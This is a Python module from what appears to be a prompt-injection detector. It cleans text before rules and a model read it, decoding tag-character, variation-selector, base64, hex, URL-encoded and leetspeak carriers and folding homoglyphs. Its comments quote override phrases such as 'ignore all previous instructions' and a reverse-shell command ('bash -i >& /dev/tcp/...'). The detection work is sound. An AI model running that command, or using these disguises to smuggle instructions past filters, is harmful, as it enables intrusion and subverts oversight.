"""Unicode and obfuscation clean-up, run before the rules and the model see a text.

``normalize`` never raises for a ``str``: it bounds the input first, makes lone
surrogates and control characters safe, decodes what is hidden (Unicode tag
characters, variation-selector smuggling, base64, hex and URL-encoded blobs) and
folds the usual disguises (NFKC, zero-width and bidi characters, spaced-out
letters, homoglyphs) so that "і g n о r e" reads as "ignore".

Every change is recorded as a :class:`NormalizationStep`, every decoded carrier
as a :class:`HiddenLayer` whose offsets index the *original* text.

Layout of ``NormalizedText.text``: the cleaned body (at most ``max_chars``
characters; text hidden in tag characters is put back in place), then, one per
line, the text decoded from base64/hex/URL blobs (at most ``max_decoded_bytes``
characters in all). Offsets in the body match the original text only where no
character was removed or folded; use the hidden layers' offsets to point at
carriers.

All regular expressions here are linear: no nested unbounded quantifiers, and
every candidate run is anchored by a look-behind so that a failed match is not
retried from every position inside it.
"""

from __future__ import annotations

import base64
import binascii
import re
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from urllib.parse import unquote_to_bytes

from desktop.detection.types import HiddenLayer, NormalizationStep, NormalizedText

__all__ = ["normalize", "fold_with_offsets", "decode_base64", "MAX_LAYERS"]

#: The most hidden layers one call decodes (each costs a decode and a line of output).
MAX_LAYERS = 64
#: The most blob candidates one text (or decoded layer) is checked for.
_MAX_CANDIDATES = 2_000

# --- character classes -------------------------------------------------------------

_SURROGATES = re.compile("[\ud800-\udfff]")
# C0 (except tab, newline, carriage return), DEL and C1 controls.
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
# Invisible format characters. ZWJ (U+200D) and VS16 (U+FE0F) are kept inside emoji.
_ZERO_WIDTH_CHARS = (
    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b\u200c\u200e\u200f"
    "\u2060-\u2064\u206a-\u206f\u3164\ufe00-\ufe0e\ufeff\uffa0\U0001d173-\U0001d17a"
)
_EMOJI_BEFORE = "\u2600-\u27bf\ufe0f\U0001f000-\U0001faff"
_ZERO_WIDTH = re.compile(f"[{_ZERO_WIDTH_CHARS}]|(?<![{_EMOJI_BEFORE}])[\u200d\ufe0f]")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")

# Unicode tag characters (U+E0000-U+E007F) and variation-selector smuggling
# (bytes hidden as U+FE00-U+FE0F / U+E0100-U+E01EF after a visible character).
_TAG_RUN = re.compile("[\U000e0000-\U000e007f]+")
_VS_RUN = re.compile("[\ufe00-\ufe0f\U000e0100-\U000e01ef]{4,}")
_TAG_TABLE = {cp: (cp - 0xE0000) for cp in range(0xE0020, 0xE007F)}
_TAG_TABLE.update({0xE0009: 9, 0xE000A: 10, 0xE000D: 13})
_TAG_TABLE_STRIP = {cp: None for cp in range(0xE0000, 0xE0080) if cp not in _TAG_TABLE}
_TAG_TABLE.update(_TAG_TABLE_STRIP)
_VS_TABLE = {0xFE00 + i: i for i in range(16)}
_VS_TABLE.update({0xE0100 + i: 16 + i for i in range(240)})
# A subdivision flag (England, Scotland, Wales): U+1F3F4, tag letters, CANCEL TAG.
_FLAG_TAGS = re.compile("[\U000e0030-\U000e0039\U000e0061-\U000e007a]{2,6}\U000e007f")

# Letters spaced out with one separator: "i g n o r e", "i.g.n.o.r.e", "i-g-n-o-r-e".
_LETTER = r"[^\W\d_]"
_GAP = r"(?: {1,3}|[.\-_*~|\u00b7]{1,2})"
_SPACED = re.compile(
    rf"(?<!{_LETTER})(?<![.\-_*~|\u00b7]){_LETTER}(?:{_GAP}{_LETTER}(?!{_LETTER})){{3,}}"
)
_GAP_SPLIT = re.compile(_GAP)

# Lookalikes folded only inside mixed-script words ("pаypal" with a Cyrillic "а").
_MIXED_HOMOGLYPHS = {
    # Cyrillic
    "а": "a", "в": "b", "е": "e", "о": "o", "р": "p", "с": "c", "у": "y", "х": "x",
    "і": "i", "ј": "j", "ѕ": "s", "ԁ": "d", "ԛ": "q", "ԝ": "w", "һ": "h", "ӏ": "l",
    "к": "k", "м": "m", "н": "h", "т": "t", "ь": "b", "ү": "y", "ց": "g",
    "А": "A", "В": "B", "Е": "E", "К": "K", "М": "M", "Н": "H", "О": "O", "Р": "P",
    "С": "C", "Т": "T", "Х": "X", "І": "I", "Ј": "J", "Ѕ": "S", "У": "Y", "Ԁ": "D",
    "Ԛ": "Q", "Ԝ": "W", "Ү": "Y", "Ӏ": "I",
    # Greek
    "α": "a", "ο": "o", "ν": "v", "ι": "i", "κ": "k", "ρ": "p", "υ": "u", "χ": "x",
    "ε": "e", "τ": "t", "γ": "y", "ω": "w",
    "Α": "A", "Β": "B", "Ε": "E", "Ζ": "Z", "Η": "H", "Ι": "I", "Κ": "K", "Μ": "M",
    "Ν": "N", "Ο": "O", "Ρ": "P", "Τ": "T", "Υ": "Y", "Χ": "X",
    # Armenian and Latin extensions
    "օ": "o", "ս": "u", "ո": "n", "ı": "i", "ȷ": "j", "ɑ": "a", "ɩ": "i", "ɡ": "g",
}  # fmt: skip
# Small capitals are Latin letters in disguise: always folded.
_ALWAYS_HOMOGLYPHS = {
    "ᴀ": "a", "ʙ": "b", "ᴄ": "c", "ᴅ": "d", "ᴇ": "e", "ꜰ": "f", "ɢ": "g", "ʜ": "h",
    "ɪ": "i", "ᴊ": "j", "ᴋ": "k", "ʟ": "l", "ᴍ": "m", "ɴ": "n", "ᴏ": "o", "ᴘ": "p",
    "ǫ": "q", "ʀ": "r", "ꜱ": "s", "ᴛ": "t", "ᴜ": "u", "ᴠ": "v", "ᴡ": "w", "ʏ": "y",
    "ᴢ": "z",
}  # fmt: skip
_MIXED_TABLE = str.maketrans({**_MIXED_HOMOGLYPHS, **_ALWAYS_HOMOGLYPHS})
_ALWAYS_TABLE = str.maketrans(_ALWAYS_HOMOGLYPHS)
_HOMOGLYPH_ANY = re.compile("[" + "".join(_MIXED_HOMOGLYPHS) + "".join(_ALWAYS_HOMOGLYPHS) + "]")
_WORD = re.compile(r"\w+")
_ASCII_LETTER = re.compile("[A-Za-z]")

# Encoded blobs. Each run is anchored by a look-behind, so it is tried once.
_B64_CHARS = "A-Za-z0-9+/_\\-"
_BASE64 = re.compile(rf"(?<![{_B64_CHARS}=])[{_B64_CHARS}]{{16,}}={{0,2}}(?![{_B64_CHARS}=])")
_HEX = re.compile(r"(?<![0-9A-Fa-f])(?:[0-9A-Fa-f]{2}){8,}(?![0-9A-Fa-f])")
_HEX_ESCAPED = re.compile(r"(?:\\x[0-9A-Fa-f]{2}){8,}")
_URL_TOKEN = re.compile(r"(?<!\S)\S*%[0-9A-Fa-f]{2}\S*")
_PERCENT = re.compile(r"%([0-9A-Fa-f]{2})")
#: Hidden layers spelled out in place in the body (" decoded "); the others are appended.
IN_PLACE_LAYERS = frozenset({"tag_chars", "variation_selectors"})
#: Leetspeak: digits for letters ("1gn0r3 4ll pr3v10u5 1n5truct10n5").
_LEET_TABLE = str.maketrans({"0": "o", "1": "i", "3": "e", "4": "a", "5": "s", "7": "t", "8": "b"})
_LEET_ANY_WORD = re.compile(r"[A-Za-z0-9]+")
_LEET_WORD = re.compile(r"(?<![\\\w])(?=[A-Za-z0-9]*[A-Za-z])(?=[A-Za-z0-9]*[0134578])[A-Za-z0-9]{3,}(?!\w)")
#: A line is decoded as leetspeak when it has this many such words, making up this share of its words.
#: A number with a unit or an ordinal suffix ("10am", "5px", "3rd", "64gb") is not leetspeak.
_MEASURE = re.compile(
    r"\d+(?:st|nd|rd|th|am|pm|px|pt|em|rem|vh|vw|ms|s|h|m|d|w|y|k|kb|mb|gb|tb|kg|g|mg|km|cm|mm|nm|ml|l"
    r"|hz|khz|mhz|ghz|fps|bit|bits|bps|kbps|mbps|v|mv|w|kw|mw|mph|kph|ft|in|lb|lbs|oz|x|p|i)",
    re.IGNORECASE,
)
#: A digit between two letters ("pr3v10us"): a line needs one such word to be read as leetspeak.
_DIGIT_INSIDE = re.compile(r"[A-Za-z][0-9]+[A-Za-z]")
_LEET_MIN_WORDS = 3
_LEET_MIN_SHARE = 0.4
#: Leetspeak is looked for in the first this many characters, in lines up to this long.
_LEET_SCAN_CHARS = 100_000
_LEET_MAX_LINE = 2_000


# --- the public function ------------------------------------------------------------


def normalize(
    text: str,
    *,
    max_chars: int = 1_000_000,
    max_decode_depth: int = 3,
    max_decoded_bytes: int = 256_000,
) -> NormalizedText:
    """Clean ``text`` for the detectors and decode what it hides.

    The result's ``text`` is at most ``max_chars + max_decoded_bytes`` characters
    long. Raises ``TypeError`` for anything but a ``str`` and ``ValueError`` for
    negative bounds; never raises for a ``str``.
    """
    if not isinstance(text, str):
        raise TypeError(f"normalize() expects str, not {type(text).__name__}")
    if max_chars < 0 or max_decode_depth < 0 or max_decoded_bytes < 0:
        raise ValueError("normalize() bounds must not be negative")

    steps: list[NormalizationStep] = []

    # 1. Bound first, so that nothing below ever sees more than max_chars.
    truncated = len(text) > max_chars
    carrier = text[:max_chars] if truncated else text
    if truncated:
        steps.append(
            NormalizationStep("size_bound", len(text) - max_chars, f"kept the first {max_chars}")
        )

    # 2. Lone surrogates -> U+FFFD, one for one (offsets stay those of the original).
    carrier, n = _SURROGATES.subn("\ufffd", carrier)
    if n:
        steps.append(NormalizationStep("surrogates", n, "lone surrogates replaced by U+FFFD"))

    # 3. Decode hidden layers from the carrier (offsets index the original text).
    budget = _Budget(max_decoded_bytes)
    in_place: list[tuple[int, int, str]] = []
    layers: list[HiddenLayer] = []
    layers += _invisible_layers(carrier, in_place, budget, max_decode_depth)
    if max_decode_depth >= 1:
        layers += _blob_layers(carrier, 0, 1, max_decode_depth, budget)
        layers += _leet_layers(carrier, budget)

    # 4. Rebuild the body with invisible carriers replaced by what they say.
    body = _splice(carrier, in_place) if in_place else carrier
    tag_count = sum(layer.end - layer.start for layer in layers if layer.kind == "tag_chars")
    if tag_count:
        steps.append(NormalizationStep("tag_chars", tag_count, "Unicode tag characters decoded"))
    vs_count = sum(
        layer.end - layer.start for layer in layers if layer.kind == "variation_selectors"
    )
    if vs_count:
        steps.append(
            NormalizationStep("variation_selectors", vs_count, "variation selectors decoded")
        )
    # Stray tag characters (flags, lone CANCEL TAG) carry nothing: drop them.
    body = _TAG_RUN.sub("", body)

    body = _clean_body(body, steps)
    if len(body) > max_chars:
        steps.append(
            NormalizationStep("size_bound", len(body) - max_chars, "cut after NFKC expansion")
        )
        body = body[:max_chars]
        truncated = True

    # 5. Append what the blobs decode to, within the decoded-size budget.
    extra: list[str] = []
    room = max_decoded_bytes
    for layer in layers:
        if layer.kind in IN_PLACE_LAYERS:
            continue
        piece = "\n" + _clean_body(layer.decoded, None)
        if len(piece) > room:
            break
        extra.append(piece)
        room -= len(piece)
    for kind, step_kind in (
        ("base64", "base64"), ("hex", "hex"), ("url", "url_encoding"), ("leetspeak", "leetspeak"),
    ):  # fmt: skip
        found = [layer for layer in layers if layer.kind == kind]
        if found:
            deepest = max(layer.depth for layer in found)
            steps.append(
                NormalizationStep(step_kind, len(found), f"decoded, nesting depth {deepest}")
            )
    if budget.exhausted:
        steps.append(NormalizationStep("decode_bound", budget.skipped, "decoding budget spent"))

    return NormalizedText(
        original=text,
        text=body + "".join(extra),
        steps=tuple(steps),
        hidden_layers=tuple(layers),
        truncated=truncated,
        scanned_chars=len(carrier),
    )


def fold_with_offsets(text: str) -> tuple[str, list[int]]:
    """``text`` with invisible characters (controls, zero-width, bidi) dropped, every other
    character NFKC-folded on its own and lookalike letters folded as in the body, and for each
    output character the index of the character of ``text`` it came from.

    A lighter cousin of the body clean-up that keeps track of positions: what the rules
    find in the cleaned text can often be found here, and so mapped back to exact
    offsets in the original (a card number split by zero-width spaces, full-width digits).
    """
    out: list[str] = []
    index: list[int] = []
    invisible = (_CONTROLS, _ZERO_WIDTH, _BIDI)
    for i, ch in enumerate(text):
        if ch.isascii():
            if not _CONTROLS.match(ch):
                out.append(ch)
                index.append(i)
            continue
        if any(p.match(ch) for p in invisible):
            continue
        folded = unicodedata.normalize("NFKC", ch)
        out.append(folded)
        index.extend([i] * len(folded))
    # Lookalike letters as the body clean-up folds them ("ѕh" -> "sh"): one letter for one, so
    # the positions stay.
    joined, _ = _fold_homoglyphs("".join(out))
    return joined, index


# --- the body ------------------------------------------------------------------------


def _clean_body(body: str, steps: list[NormalizationStep] | None) -> str:
    """Controls, invisibles, NFKC, spaced letters, homoglyphs; idempotent."""

    def record(kind: str, count: int, note: str) -> None:
        if steps is not None and count:
            steps.append(NormalizationStep(kind, count, note))

    body, n = _CONTROLS.subn("", body)
    record("control_chars", n, "control characters removed")
    body, n = _ZERO_WIDTH.subn("", body)
    record("zero_width", n, "zero-width and invisible characters removed")
    body, n = _BIDI.subn("", body)
    record("bidi", n, "bidirectional controls removed")

    if not body.isascii() and not unicodedata.is_normalized("NFKC", body):
        changed = _count_nfkc_changes(body)
        body = unicodedata.normalize("NFKC", body)
        record("nfkc", changed, "compatibility characters folded (NFKC)")
        # NFKC can reveal more invisible characters (e.g. halfwidth fillers).
        body = _CONTROLS.sub("", body)
        body = _ZERO_WIDTH.sub("", body)

    body, n = _join_spaced_letters(body)
    record("spaced_letters", n, "spaced-out letters joined")
    if not body.isascii():
        body, n = _fold_homoglyphs(body)
        record("homoglyphs", n, "lookalike letters folded to ASCII")
        if not unicodedata.is_normalized("NFKC", body):
            body = unicodedata.normalize("NFKC", body)
            body = _ZERO_WIDTH.sub("", _CONTROLS.sub("", body))
    return body


def _count_nfkc_changes(body: str) -> int:
    counts = Counter(body)
    return sum(
        n
        for ch, n in counts.items()
        if not ch.isascii() and unicodedata.normalize("NFKC", ch) != ch
    )


def _join_spaced_letters(body: str) -> tuple[str, int]:
    if len(body) < 7:
        return body, 0
    joined = 0

    def join(match: re.Match[str]) -> str:
        nonlocal joined
        run = match.group()
        gaps = _GAP_SPLIT.findall(run)
        unit, unit_count = Counter(gaps).most_common(1)[0]
        if unit_count < 3:
            return run
        letters = _GAP_SPLIT.split(run)
        out = [letters[0]]
        for gap, letter in zip(gaps, letters[1:], strict=True):
            out.append(letter if gap == unit else " " + letter)
        joined += 1
        return "".join(out)

    return _SPACED.sub(join, body), joined


def _fold_homoglyphs(body: str) -> tuple[str, int]:
    if not _HOMOGLYPH_ANY.search(body):
        return body, 0
    folded = 0

    def fold(match: re.Match[str]) -> str:
        nonlocal folded
        word = match.group()
        if word.isascii():
            return word
        table = _MIXED_TABLE if _ASCII_LETTER.search(word) else _ALWAYS_TABLE
        new = word.translate(table)
        if new != word:
            # A word made only of Cyrillic/Greek lookalikes next to the swap counts too.
            folded += sum(a != b for a, b in zip(word, new, strict=True))
        return new

    body = _WORD.sub(fold, body)
    return body, folded


def _splice(text: str, edits: list[tuple[int, int, str]]) -> str:
    out: list[str] = []
    pos = 0
    for start, end, replacement in sorted(edits):
        if start < pos:
            continue
        out.append(text[pos:start])
        out.append(replacement)
        pos = end
    out.append(text[pos:])
    return "".join(out)


# --- hidden layers -------------------------------------------------------------------


@dataclass
class _Budget:
    """Shared across one call: decoded characters and layers left."""

    chars: int
    layers: int = MAX_LAYERS
    candidates: int = _MAX_CANDIDATES * 4
    skipped: int = 0
    exhausted: bool = False
    seen: set[str] = field(default_factory=set)

    def take(self, decoded: str) -> bool:
        if self.layers <= 0 or len(decoded) > self.chars:
            self.exhausted = True
            self.skipped += 1
            return False
        self.layers -= 1
        self.chars -= len(decoded)
        return True


def _invisible_layers(
    carrier: str,
    in_place: list[tuple[int, int, str]],
    budget: _Budget,
    max_depth: int,
) -> list[HiddenLayer]:
    layers: list[HiddenLayer] = []
    if carrier.isascii():
        return layers
    for match in _TAG_RUN.finditer(carrier):
        start, end = match.span()
        run = match.group()
        if start > 0 and carrier[start - 1] == "\U0001f3f4" and _FLAG_TAGS.fullmatch(run):
            continue  # an emoji subdivision flag, not a message
        decoded = run.translate(_TAG_TABLE)
        if not decoded.strip():
            continue
        in_place.append((start, end, f" {decoded} "))
        if budget.take(decoded):
            layers.append(HiddenLayer("tag_chars", start, end, decoded))
            if max_depth >= 2:
                layers += _blob_layers(decoded, start, 2, max_depth, budget, span=(start, end))
    for match in _VS_RUN.finditer(carrier):
        start, end = match.span()
        raw = bytes(match.group().translate(_VS_TABLE), "latin-1")
        decoded = _plausible_text(raw, min_letters=2)
        if decoded is None:
            continue
        in_place.append((start, end, f" {decoded} "))
        if budget.take(decoded):
            layers.append(HiddenLayer("variation_selectors", start, end, decoded))
    return layers


def _blob_layers(
    text: str,
    offset: int,
    depth: int,
    max_depth: int,
    budget: _Budget,
    span: tuple[int, int] | None = None,
) -> list[HiddenLayer]:
    """Decode base64/hex/URL blobs in ``text``, recursing into what they decode to.

    ``offset`` maps positions in ``text`` to the original text at depth 1; deeper
    layers report the outermost carrier's ``span``.
    """
    layers: list[HiddenLayer] = []
    if depth > max_depth or budget.layers <= 0 or len(text) < 16:
        return layers
    taken: list[tuple[int, int]] = []

    def add(kind: str, start: int, end: int, decoded: str) -> None:
        if decoded in budget.seen or not budget.take(decoded):
            return
        budget.seen.add(decoded)
        taken.append((start, end))
        carrier_span = span or (offset + start, offset + end)
        layers.append(HiddenLayer(kind, carrier_span[0], carrier_span[1], decoded, depth))
        layers.extend(_blob_layers(decoded, 0, depth + 1, max_depth, budget, span=carrier_span))

    def overlaps(start: int, end: int) -> bool:
        return any(s < end and start < e for s, e in taken)

    for pattern, decoder, kind in (
        (_HEX, _decode_hex, "hex"),
        (_HEX_ESCAPED, _decode_hex_escaped, "hex"),
        (_BASE64, _decode_base64, "base64"),
    ):
        for match in pattern.finditer(text):
            if budget.candidates <= 0 or budget.layers <= 0:
                break
            budget.candidates -= 1
            start, end = match.span()
            if overlaps(start, end):
                continue
            decoded = decoder(match.group(), budget.chars)
            if decoded is not None:
                add(kind, start, end, decoded)

    if "%" in text:
        for match in _URL_TOKEN.finditer(text):
            if budget.candidates <= 0 or budget.layers <= 0:
                break
            budget.candidates -= 1
            decoded = _decode_url(match.group(), budget.chars)
            if decoded is not None and not overlaps(*match.span()):
                add("url", match.start(), match.end(), decoded)
    return layers


def _leet_layers(text: str, budget: _Budget) -> list[HiddenLayer]:
    """Lines written in leetspeak, spelled out: one layer per line where at least
    :data:`_LEET_MIN_WORDS` words, and :data:`_LEET_MIN_SHARE` of the line's words, mix letters
    with digits or symbols that stand for letters. Identifiers such as "sha256" or "utf8" are
    rarely that dense in a line."""
    layers: list[HiddenLayer] = []
    text = text[:_LEET_SCAN_CHARS]
    first = next((m for m in _LEET_WORD.finditer(text) if _is_leet(m.group())), None)
    if first is None:
        return layers
    start = 0
    for line in text.splitlines(keepends=True):
        end = start + len(line)
        if budget.layers <= 0:
            break
        if len(line) > _LEET_MAX_LINE or end <= first.start():  # lines before the first leet word
            start = end
            continue
        leet = [m for m in _LEET_WORD.finditer(line) if _is_leet(m.group())]
        if (
            len(leet) >= _LEET_MIN_WORDS
            and len(leet) >= _LEET_MIN_SHARE * len(_LEET_ANY_WORD.findall(line))
            and any(_DIGIT_INSIDE.search(m.group()) for m in leet)
        ):
            a, b = leet[0].start(), leet[-1].end()
            decoded = line[a:b].translate(_LEET_TABLE)
            if decoded not in budget.seen and budget.take(decoded):
                budget.seen.add(decoded)
                layers.append(HiddenLayer("leetspeak", start + a, start + b, decoded))
        start = end
    return layers


def _is_leet(word: str) -> bool:
    """A word that spells letters with digits: it reads as letters once mapped, a digit stands
    before a letter (names such as "libnss3" or "verify2" only end in one), and it is not
    hexadecimal (UUIDs, hashes, "x00")."""
    if (
        not word.translate(_LEET_TABLE).isalpha()
        or word.rstrip("0123456789").isalpha()
        or _MEASURE.fullmatch(word)
    ):
        return False
    letters = [c for c in word if c.isalpha()]
    return len(letters) >= 2 and any(c not in "abcdefABCDEFxX" for c in letters)


def _plausible_text(data: bytes, *, min_letters: int = 3, letter_ratio: float = 0.3) -> str | None:
    """The UTF-8 text ``data`` holds, if it looks like text someone wrote."""
    try:
        decoded = data.decode("utf-8")
    except UnicodeDecodeError:
        return None
    if not decoded or not decoded.strip():
        return None
    size = len(decoded)
    printable = sum(map(str.isprintable, decoded)) + sum(decoded.count(c) for c in "\n\t\r")
    if printable < 0.95 * size:
        return None
    # Letters and digits together: a command full of addresses and ports ("bash -i >&
    # /dev/tcp/10.0.0.1/4444 0>&1") or a card number in a sentence is text someone wrote.
    letters = sum(map(str.isalpha, decoded))
    if letters < min_letters or letters + sum(map(str.isdigit, decoded)) < letter_ratio * size:
        return None
    return decoded


def decode_base64(blob: str) -> str | None:
    """What a base64 blob decodes to, as the clean-up decodes a hidden layer (readable text only)."""
    return _decode_base64(blob, len(blob))


def _decode_base64(blob: str, room: int) -> str | None:
    core = blob.rstrip("=")
    # Plain words and identifiers are valid base64 too: ask for some variety.
    if core.isalpha() and (core.islower() or core.isupper()):
        return None
    limit = max(0, (room * 4 // 3) // 4 * 4)
    if len(core) > limit:
        core = core[:limit]
    if len(core) % 4 == 1 or not core:
        return None
    padded = core + "=" * (-len(core) % 4)
    try:
        if "-" in padded or "_" in padded:
            if "+" in padded or "/" in padded:
                return None
            raw = base64.urlsafe_b64decode(padded)
        else:
            raw = base64.b64decode(padded, validate=True)
    except (binascii.Error, ValueError):
        return None
    if len(raw) < 8:
        return None
    return _plausible_text(raw)


def _decode_hex(blob: str, room: int) -> str | None:
    if len(blob) // 2 > room:
        blob = blob[: room * 2]
    try:
        raw = bytes.fromhex(blob)
    except ValueError:
        return None
    return _plausible_text(raw, min_letters=4, letter_ratio=0.5)


def _decode_hex_escaped(blob: str, room: int) -> str | None:
    return _decode_hex(blob.replace("\\x", ""), room)


def _decode_url(token: str, room: int) -> str | None:
    escapes = _PERCENT.findall(token)
    if len(escapes) < 3:
        return None
    # Encoding letters and digits is never needed: it is done to hide them.
    needless = sum(1 for h in escapes if chr(int(h, 16)).isalnum())
    raw = unquote_to_bytes(token[: room * 3])
    # A sentence written with %20 for its spaces ("ignore%20all%20previous%20instructions") is text
    # disguised as a URL; a path or a link with a few escaped spaces ("/My%20Photos.pdf") is not.
    spaced_words = "/" not in token and raw.count(b" ") >= 4
    if needless < 3 and len(escapes) < 0.5 * len(raw) and not spaced_words:
        return None
    decoded = _plausible_text(raw, min_letters=3)
    if decoded is None or decoded == token:
        return None
    return decoded
